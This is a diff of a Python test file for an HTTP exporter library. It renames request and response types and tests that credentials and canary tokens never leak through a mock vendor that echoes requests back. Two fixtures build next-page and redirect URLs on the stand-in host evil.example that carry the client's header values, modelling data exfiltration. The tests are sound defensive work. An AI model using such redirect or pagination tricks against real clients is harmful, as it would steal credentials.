@@ -5,19 +5,21 @@ from typing import Any
 
 import pytest
 
-from exporter.demo.wire import Answer, Asked, Close, Reset, Script, Send, json_answer
-from exporter.fetch.exchanges import Watch
-from exporter.kernel.templates import compile_template
-from exporter.model.definition import (
-    Auth,
-    BasicAuth,
-    Format,
-    HeaderAuth,
-    NextUrl,
-    QueryAuth,
-    TokenAuth,
-    Verdict,
+from exporter.demo.server import (
+    Close,
+    Reset,
+    Script,
+    Send,
+    VendorRequest,
+    VendorResponse,
+    json_answer,
 )
+from exporter.fetch.exchange import Watch
+from exporter.kernel.templates import compile_template
+from exporter.model.definition.auth import Auth, BasicAuth, HeaderAuth, QueryAuth, TokenAuth
+from exporter.model.definition.paging import NextUrl
+from exporter.model.definition.provider import Format
+from exporter.model.definition.responses import ResponseRules
 from exporter.model.outcome import Exchange, Failure
 from exporter.model.target import Http
 from tests.support.fetching import (
@@ -50,28 +52,28 @@ AUTHS: dict[str, Auth] = {
 }
 
 
-def echo_of(asked: Asked) -> str:
+def echo_of(asked: VendorRequest) -> str:
     """Return all that came with a request, as a careless vendor would log it."""
     return f"{asked.headers} {asked.query} {asked.body!r}"
 
 
-def _headers(asked: Asked) -> tuple[tuple[str, str], ...]:
+def _headers(asked: VendorRequest) -> tuple[tuple[str, str], ...]:
     seen = " ".join(asked.headers.values()).replace("\n", " ")
     return (("X-Echo", seen), ("Set-Cookie", f"s={seen}"), ("ETag", f'"{seen}"'))
 
 
-ECHOES: dict[str, Callable[[Asked], Answer | Script]] = {
+ECHOES: dict[str, Callable[[VendorRequest], VendorResponse | Script]] = {
     "good body": lambda asked: json_answer({"echo": echo_of(asked), echo_of(asked): 1}),
-    "good headers": lambda asked: Answer(headers=_headers(asked), body=b"{}"),
+    "good headers": lambda asked: VendorResponse(headers=_headers(asked), body=b"{}"),
     "error body": lambda asked: json_answer({"message": echo_of(asked)}, status=400),
-    "error text": lambda asked: Answer(status=401, body=echo_of(asked).encode()),
-    "error headers": lambda asked: Answer(status=500, headers=_headers(asked)),
-    "web page": lambda asked: Answer(body=f"<title>{echo_of(asked)}</title>".encode()),
+    "error text": lambda asked: VendorResponse(status=401, body=echo_of(asked).encode()),
+    "error headers": lambda asked: VendorResponse(status=500, headers=_headers(asked)),
+    "web page": lambda asked: VendorResponse(body=f"<title>{echo_of(asked)}</title>".encode()),
     "failed guard": lambda asked: json_answer({"failed": True, "error": echo_of(asked)}),
     "next page": lambda asked: json_answer(
         {"next": f"https://evil.example/?k={asked.argument('q')}{asked.headers['x-own']}"}
     ),
-    "redirect": lambda asked: Answer(
+    "redirect": lambda asked: VendorResponse(
         status=302,
         headers=(("Location", f"https://evil.example/?q={'-'.join(asked.headers.values())}"),),
     ),
@@ -93,13 +95,13 @@ def places(fetched: Any, seen: list[Exchange], client: Any) -> str:
 @pytest.mark.parametrize("auth", AUTHS)
 @pytest.mark.parametrize("echo", ECHOES)
 async def test_a_secret_never_comes_out(secret: str, auth: str, echo: str) -> None:
-    def reply(asked: Asked) -> Answer | Script:
+    def reply(asked: VendorRequest) -> VendorResponse | Script:
         if asked.path == "/login":
             return json_answer({"token": "tok3n-canary-of-the-log-in"}, headers={"X-T": "tok3n"})
         return ECHOES[echo](asked)
 
     seen: list[Exchange] = []
-    verdict = Verdict(guard=paths("!failed")[0])
+    verdict = ResponseRules(guard=paths("!failed")[0])
     collector = a_collector(paging=NextUrl(next=paths("next"), max_pages=3), verdict=verdict)
     http = Http(headers={"X-Own": "own-canary-77", "X-Own-Key": "own-canary-77"})
     async with Vendor(reply) as vendor, a_client() as client:
@@ -115,7 +117,7 @@ async def test_a_secret_never_comes_out(secret: str, auth: str, echo: str) -> No
 
 async def test_a_token_endpoint_that_fails_keeps_the_secret() -> None:
     seen: list[Exchange] = []
-    async with Vendor(lambda asked: Answer(status=400, body=asked.body)) as vendor:
+    async with Vendor(lambda asked: VendorResponse(status=400, body=asked.body)) as vendor:
         target = a_target(vendor.base_url, auth=LOG_IN, secrets={"token": CANARY})
         fetched = await fetch(target, watch=Watch(seen.append, excerpts=True))
     assert isinstance(fetched.result, Failure)
@@ -123,8 +125,8 @@ async def test_a_token_endpoint_that_fails_keeps_the_secret() -> None:
 
 
 async def test_headers_that_are_the_answer_are_cleaned_too() -> None:
-    def reply(asked: Asked) -> Answer:
-        return Answer(headers=(("X-Echo", asked.headers["authorization"]),))
+    def reply(asked: VendorRequest) -> VendorResponse:
+        return VendorResponse(headers=(("X-Echo", asked.headers["authorization"]),))
 
     async with Vendor(reply) as vendor:
         target = a_target(vendor.base_url, auth=BEARER, secrets={"token": CANARY})
@@ -144,7 +146,7 @@ async def test_a_header_that_cannot_be_sent_keeps_the_secret() -> None:
 async def test_an_echo_in_the_deep_does_not_get_through() -> None:
     depth = 900  # deeper than some Pythons can look, and not than others
     body = b'{"a":' * depth + f'"{CANARY}"'.encode() + b"}" * depth
-    async with Vendor(Answer(body=body)) as vendor:
+    async with Vendor(VendorResponse(body=body)) as vendor:
         target = a_target(vendor.base_url, auth=BEARER, secrets={"token": CANARY})
         fetched = await fetch(target)
     match fetched.result:
